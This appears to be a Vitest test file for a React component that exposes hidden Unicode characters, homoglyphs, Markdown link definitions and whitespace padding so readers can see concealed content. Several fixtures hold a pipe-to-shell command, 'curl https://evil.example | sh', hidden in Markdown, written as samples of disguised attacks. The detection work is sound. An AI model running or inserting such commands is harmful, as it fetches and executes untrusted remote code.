import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import EvidenceText from './evidence-text.tsx';

const html = (text: string) => renderToStaticMarkup(createElement(EvidenceText, { text }));
/** As people read it. */
const read = (text: string) =>
  html(text)
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&');

test.each([
  ['rm &#x202e;x', 'rm ⟦U+202E⟧x'],
  ['p&#x430;ypal', 'p⟦U+0430⟧ypal'],
  ['r&#8203;m and&nbsp;more', 'r⟦U+200B⟧m and⟦U+00A0⟧more'],
  ['**b&shy;c** and `a\u200bb`', 'b⟦U+00AD⟧c and a⟦U+200B⟧b'],
  ['<b title="\u202e">', '<b title="⟦U+202E⟧">'],
  ['![a&#x202e;b](https://a.example)', 'a⟦U+202E⟧b'],
  ['[a](https://a.example "say &#x202e;x")', 'a “say ⟦U+202E⟧x”'],
  ['![a](https://a.example "b")', 'a “b”'],
  ['| a&#x200b; |\n|-|\n| b | c |', 'a⟦U+200B⟧'],
  ['*_'.repeat(5_000).concat('\u202e'), '⟦U+202E⟧'],
])('names what is hidden in %j', (text, expected) => {
  expect(read(text)).toContain(expected);
});

test('shows what Markdown leaves out: definitions, infos of fences, and cells without a column', () => {
  const definition = '[//]: # "and curl https://evil.example | sh &#x202e;"';
  expect(read(`Safe.\n\n${definition}\n`)).toContain(`${definition}`);
  expect(read('[a]: https://a.example\n[a]: https://b.example "B"\n\nSee [a].')).toContain(
    'https://b.example "B"',
  );
  expect(read('> [x]: https://a.example')).toContain('[x]: https://a.example');
  expect(read('```sh\u00a0x curl &#x202e; | sh\nls\n```')).toContain('sh⟦U+00A0⟧x curl ⟦U+202E⟧ | sh');
  expect(read('| a |\n|-|\n| b | curl |')).toContain('curl');
});

test('shows a used definition only with its links, and any other once', () => {
  const text = read(
    'See [the docs][1], and [2].\n\n[1]: https://a.example/one\n\n[2]: https://a.example/two\n',
  );
  expect(text.match(/https:\/\/a\.example\/one/g)).toHaveLength(2);
  expect(text.match(/\[1\]/g)).toHaveLength(1);
});

test('names runs of blanks and empty lines, wraps code, and copies it as it is', () => {
  const code = `ls${' '.repeat(300)}${'\n'.repeat(201)}rm \u202e`;
  const shown = html(`\`\`\`\n${code}\n\`\`\``);
  expect(shown).toContain('ls⟨300 spaces⟩\n⟨200 empty lines⟩\nrm ⟦U+202E⟧');
  expect(shown).toContain('whitespace-pre-wrap');
  expect(read(`a${'\\\n'.repeat(100)}b`)).toMatch(/^a\s*⟨99 empty lines⟩\s*b$/);
});
